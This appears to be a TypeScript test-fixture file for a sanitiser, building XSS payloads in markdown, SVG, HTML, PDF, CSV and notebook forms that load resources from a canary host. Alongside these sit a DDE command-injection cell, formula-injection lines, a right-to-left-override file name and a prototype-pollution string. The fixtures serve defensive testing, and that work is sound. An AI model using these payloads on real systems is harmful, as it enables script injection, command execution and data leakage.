/**
 * Markup that would run scripts or load resources in a page that trusts it, short enough for a name. `host` is the
 * canary's.
 */
export function attack(host: string, place: string): string {
  return `"><img src=//${host}/${place} onerror=alert(1)></title><script src=//${host}/${place}.js></script>`;
}

/** The same for file names, which cannot contain a slash. */
export const nameAttack = '"><img src=x onerror=alert(document.domain)><svg onload=alert(2)>';

/** The same for names of labs, which cannot contain an address or a hidden character. */
export const labNameAttack = '"><img src=x onerror=alert(1)></title><script>alert(2)</script>';

/** Displayed as `invoice-exe.pdf` if the bidirectional mark takes effect. */
export const reversed = 'invoice-\u202Efdp.exe';

/** Starts as a formula and contains a bidirectional override and invisible characters. */
export const disguised = (word: string) => `=HYPERLINK("x")${word}\u200b\u2060\u202e`;

/** The maximum length of a path segment, without a place to break. */
export const longest = 'n'.repeat(255 - '.txt'.length);

/** Markdown with everything that must be removed from it. */
export function markdown(host: string, word: string): string {
  return `# ${word} <script>alert(1)</script>

<script src="http://${host}/md.js"></script>
<style>@import url(http://${host}/md.css); @font-face{font-family:x;src:url(http://${host}/md.woff)} body{background:url(http://${host}/md.png);display:none}</style>
<link rel="prefetch" href="http://${host}/prefetch"><link rel="dns-prefetch" href="http://${host}"><link rel="preconnect" href="http://${host}">
<base href="http://${host}/"><meta http-equiv="refresh" content="0;url=http://${host}/refresh">
<iframe src="http://${host}/frame" srcdoc="<script>alert(1)</script>"></iframe>
<object data="http://${host}/object"></object><embed src="http://${host}/embed">
<form action="http://${host}/form"><input autofocus onfocus=alert(1) name="attributes"><button>Send</button></form>
<svg onload="alert(1)"><image href="http://${host}/svg.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<video poster="http://${host}/poster" src="http://${host}/video" autoplay></video><audio src="http://${host}/audio" autoplay></audio>
<a href="http://${host}/a" ping="http://${host}/ping">html link</a>
<p style="background:url(http://${host}/style.png);position:fixed;inset:0">style</p>

![picture](http://${host}/pixel.png) ![svg](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)
[script](javascript:alert(1)) [upper](JaVaScRiPt:alert(1)) [tab](java&#x09;script:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)
[link](http://${host}/link) <http://${host}/auto> <javascript:alert(1)>

[note]: http://${host}/note "title"
A footnote[^1].

[^1]: <img src=http://${host}/foot onerror=alert(1)>

| a | b |
|---|---|
| <img src=http://${host}/cell onerror=alert(1)> | \`<script>alert(1)</script>\` |

${'w'.repeat(400)} \u202e${word}
`;
}

export function svg(host: string): string {
  return `<?xml version="1.0"?><?xml-stylesheet href="http://${host}/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="alert(1)">
<script>alert(1)</script><script href="http://${host}/svg.js"/><style>@import url(http://${host}/svg.css);</style>
<image href="http://${host}/image.png" width="9" height="9"/><use href="http://${host}/use.svg#x"/>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://${host}/frame"/><img src="http://${host}/img" onerror="alert(1)"/></body></foreignObject>
<a href="javascript:alert(1)"><rect width="40" height="40" fill="red"/></a><animate attributeName="href" values="javascript:alert(1)"/></svg>`;
}

export function html(host: string): string {
  return `<!doctype html><title>x</title><script>alert(1)</script><script src="http://${host}/html.js"></script>
<img src="http://${host}/html.png" onerror="alert(1)"><link rel="stylesheet" href="http://${host}/html.css">
<meta http-equiv="refresh" content="0;url=http://${host}/refresh">`;
}

/** A document that browsers render as a page although its type claims an image or audio. */
export function xhtml(host: string): string {
  return `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>alert(1)</script></head><body><img src="http://${host}/xhtml.png" onerror="alert(1)"/></body></html>`;
}

/** Runs a script and requests a URL when opened in a viewer that allows it. */
export function pdf(host: string): string {
  return `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\("http://${host}/pdf-js"\\))>>/AA<</WC<</S/URI/URI(http://${host}/pdf-close)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(http://${host}/pdf-open)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
}

export function csv(host: string): string {
  return [
    'name,value',
    `"=HYPERLINK(""http://${host}/csv"",""open"")",=cmd|' /C calc'!A0`,
    `<img src=http://${host}/cell onerror=alert(1)>,@SUM(1)`,
    `=IMPORTXML("http://${host}/xml";"//a"),+1-1`,
  ].join('\r\n');
}

export function notebook(host: string): string {
  const bad = `<img src=http://${host}/nb onerror=alert(1)><script src=http://${host}/nb.js></script>`;
  const outputs = [
    { output_type: 'display_data', data: { 'text/html': [bad], 'application/javascript': 'alert(1)' } },
    { output_type: 'display_data', data: { 'image/svg+xml': svg(host) } },
    { output_type: 'display_data', data: { 'image/png': `x" onerror="alert(1)` } },
    {
      output_type: 'display_data',
      data: { 'text/latex': `\\href{javascript:alert(1)}{x}`, 'text/plain': bad },
    },
    { output_type: 'stream', name: 'stderr', text: [bad] },
    { output_type: 'error', ename: bad, evalue: bad, traceback: [bad] },
  ];
  const cells = [
    { cell_type: 'markdown', source: [markdown(host, 'notebook')] },
    { cell_type: 'code', execution_count: 1, source: bad, outputs },
    { cell_type: 'raw', source: bad },
  ];
  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: { title: bad }, cells });
}

export const json = (host: string) =>
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"x":"</script><img src=//${host}/json onerror=alert(1)>"}`;
